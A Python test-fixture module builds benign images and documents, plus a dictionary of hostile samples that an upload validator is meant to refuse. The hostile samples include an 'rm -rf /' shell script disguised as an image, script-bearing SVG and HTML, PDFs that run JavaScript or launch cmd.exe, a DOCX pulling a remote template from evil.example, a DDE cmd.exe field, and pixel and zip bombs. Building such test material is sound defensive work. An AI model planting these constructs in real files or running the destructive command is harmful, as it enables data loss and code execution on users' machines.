"""Papers and pictures for tests: real ones, made here, and hostile ones of every kind that the door must refuse."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

import pikepdf
from PIL import Image, ImageDraw

TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType="%s"/></Types>'
)
PLAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO = b"application/vnd.ms-word.document.macroEnabled.main+xml"
BODY = (
    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>DDE l\xc3\xa0 m\xe1\xbb\x99t t\xe1\xbb\xab</w:t></w:r></w:p></w:body></w:document>"
)
COMMENT = "ghi chú bí mật 7391"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"


def jpeg(
    width: int = 640,
    height: int = 480,
    *,
    place: tuple[float, float] | None = None,
    taken: str | None = None,
    turned: int = 1,
    mark: int = 0,
) -> bytes:
    """A JPEG, with EXIF when a place (lon, lat) or a time is given; `mark` makes its bytes differ."""
    picture = Image.new("RGB", (width, height), (200, 220, 210))
    draw = ImageDraw.Draw(picture)
    draw.rectangle((width // 10, height // 10, width // 2, height // 2), fill=(40, 90, 140))
    draw.text((width // 8, height // 8), f"thửa {mark}".encode("ascii", "ignore").decode(), fill="white")
    exif = Image.Exif()
    exif[0x0112] = turned
    exif[0x010F] = "MayAnhThu"
    if taken is not None:
        exif.get_ifd(0x8769)[0x9003] = taken
    if place is not None:
        lon, lat = place
        exif.get_ifd(0x8825).update(
            {
                1: "N" if lat >= 0 else "S",
                2: _parts(abs(lat)),
                3: "E" if lon >= 0 else "W",
                4: _parts(abs(lon)),
            }
        )
    made = io.BytesIO()
    picture.save(made, "JPEG", exif=exif, comment=COMMENT.encode())
    return made.getvalue()


def noisy(width: int, height: int, seed: int = 1) -> bytes:
    """A JPEG that does not pack well, for uploads of some size."""
    import random

    at = random.Random(seed)
    picture = Image.frombytes("RGB", (width, height), at.randbytes(width * height * 3))
    made = io.BytesIO()
    picture.save(made, "JPEG", quality=90)
    return made.getvalue()


def png(width: int = 64, height: int = 48, *, mode: str = "RGB") -> bytes:
    """A plain PNG."""
    made = io.BytesIO()
    Image.new(mode, (width, height)).save(made, "PNG")
    return made.getvalue()


def pixel_bomb(side: int = 40_000) -> bytes:
    """A PNG of some kilobytes with `side` × `side` pixels, all of them there for a decoder that believes it."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
    packer = zlib.compressobj(9)
    row = bytes(1 + (side + 7) // 8)
    body = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def pdf(*, pages: int = 1, root: Mapping[str, object] | None = None, scan: bytes | None = None) -> bytes:
    """A PDF; `root` adds to its catalogue, `scan` is a JPEG that fills the first page."""
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
    if scan is not None:
        with Image.open(io.BytesIO(scan)) as picture:
            width, height = picture.size
        image = pikepdf.Stream(made, scan)
        image.update(
            {
                "/Type": pikepdf.Name.XObject, "/Subtype": pikepdf.Name.Image, "/Width": width, "/Height": height,
                "/ColorSpace": pikepdf.Name.DeviceRGB, "/BitsPerComponent": 8, "/Filter": pikepdf.Name.DCTDecode,
            }
        )  # fmt: skip
        made.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I0=image))
        made.pages[0].Contents = pikepdf.Stream(made, b"q 595 0 0 842 0 0 cm /I0 Do Q")
    for key, value in (root or {}).items():
        made.Root[key] = value
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def pdf_with_script() -> bytes:
    """JavaScript that runs when the file is opened."""
    return pdf(
        root={"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))}
    )


def pdf_with_launch() -> bytes:
    """An action that starts a program."""
    return pdf(root={"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))})


def pdf_with_file() -> bytes:
    """Another file inside."""
    made = pikepdf.open(io.BytesIO(pdf()))
    made.attachments["x.exe"] = pikepdf.AttachedFileSpec(made, b"MZ", filename="x.exe")
    out = io.BytesIO()
    made.save(out)
    made.close()
    return out.getvalue()


def pdf_locked() -> bytes:
    """A PDF that asks for a password."""
    made = pikepdf.open(io.BytesIO(pdf()))
    out = io.BytesIO()
    made.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    made.close()
    return out.getvalue()


def docx(parts: Mapping[str, bytes] | None = None, *, kind: bytes = PLAIN) -> bytes:
    """A Word file of two parts, and more when given."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (
            {"[Content_Types].xml": TYPES % kind, "word/document.xml": BODY} | dict(parts or {})
        ).items():
            archive.writestr(name, content)
    return out.getvalue()


REMOTE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)

# name → (bytes, a word of the sentence that refuses it)
HOSTILE: dict[str, tuple[bytes, str]] = {
    "ảnh.jpg, a program": (b"MZ\x90\x00" + bytes(600), "chương trình"),
    "ảnh.png, an ELF": (b"\x7fELF\x02\x01\x01" + bytes(600), "chương trình"),
    "ảnh.jpg, a script": (b"#!/bin/sh\nrm -rf /\n", "chương trình"),
    "an SVG with script": (SVG, "SVG"),
    "an SVG in UTF-16": (SVG.decode().encode("utf-16"), "SVG"),
    "a web page": (HTML, "HTML"),
    "HEIC": (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(200), "HEIC"),
    "a film": (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00" + bytes(200), "phim"),
    "an old Word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "Office kiểu cũ"),
    "GIF": (b"GIF89a" + bytes(60), "GIF"),
    "TIFF": (b"II*\x00" + bytes(60), "TIFF"),
    "an archive": (b"PK\x05\x06" + bytes(18), "nén"),
    "a zip that is no DOCX": (
        docx({"word/x": b""}).replace(b"word/document.xml", b"word/documenu.xml"),
        "nén",
    ),
    "nothing known": (b"hello", "loại tệp"),
    "a pixel bomb": (pixel_bomb(), "điểm ảnh"),
    "a JPEG cut short": (jpeg()[:4000], "hỏng"),
    "a JPEG of three bytes": (b"\xff\xd8\xff", "hỏng"),
    "PDF with JavaScript": (pdf_with_script(), "JavaScript"),
    "PDF with a launch action": (pdf_with_launch(), "mở chương trình"),
    "PDF with a file inside": (pdf_with_file(), "tệp nhúng"),
    "PDF with a password": (pdf_locked(), "mật khẩu"),
    "PDF that is damaged": (b"%PDF-1.7\n" + bytes(100), "hỏng"),
    "DOCX with macros": (docx({"word/vbaProject.bin": b"x"}), "macro"),
    "DOCX that says it has macros": (docx(kind=MACRO), "macro"),
    "DOCX with an OLE object": (docx({"word/embeddings/oleObject1.bin": b"x"}), "nhúng"),
    "DOCX with a remote template": (docx({"word/_rels/settings.xml.rels": REMOTE}), "nơi khác"),
    "DOCX with DDE": (
        docx({"word/footer1.xml": b"<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>"}),
        "nơi khác",
    ),
    "a zip bomb": (docx({"word/media/image1.xml": bytes(60 * 2**20)}), "phồng"),
}


def _parts(value: float) -> tuple[float, float, float]:
    degrees = int(value)
    minutes = int((value - degrees) * 60)
    return float(degrees), float(minutes), round((value - degrees - minutes / 60) * 3600, 4)
